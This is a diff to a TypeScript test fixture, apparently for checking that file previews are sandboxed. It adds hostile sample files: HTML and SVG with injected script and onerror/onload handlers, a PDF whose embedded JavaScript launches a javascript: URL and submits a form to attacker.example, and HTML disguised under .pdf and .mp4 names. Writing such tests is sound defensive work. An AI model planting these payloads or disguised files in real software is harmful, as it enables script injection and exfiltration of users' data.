@@ -8,6 +8,7 @@ import { type Person, type ServedProject, Service } from '../../../conformance/s
 import { ED25519_KEY } from '../../../coordinator/accounts/users/example-keys.js'
 import { INFO, type RunnerClient } from '../../../coordinator/support/runner-client.js'
 import { zipOf } from '../../../coordinator/support/zip.js'
+import { pdfOf } from '../../../pages/support/sample-files.js'
 import { onFinished } from '../../../support/lifetime.js'
 
 /** A host that no page may ask for anything. */
@@ -79,6 +80,13 @@ export const FILES = {
   'page.html': `<!doctype html>${hostile('page')}`,
   'code.js': `const a = \`${hostile('code')}\` // </span><img data-hostile onerror=ran()>`,
   'drawing.svg': `<svg xmlns="http://www.w3.org/2000/svg" onload="ran()"><script>ran()</script></svg>`,
+  'report.pdf': pdfOf(
+    'A report',
+    'app.launchURL("javascript:parent.ran()"); this.submitForm("https://attacker.example/")',
+  ),
+  // Their names promise what their content is not.
+  'page.pdf': `<!doctype html><script>parent.ran()</script>`,
+  'page.mp4': `<!doctype html><script>parent.ran()</script>`,
   [hostileName('file')]: hostile('content'),
 }
 
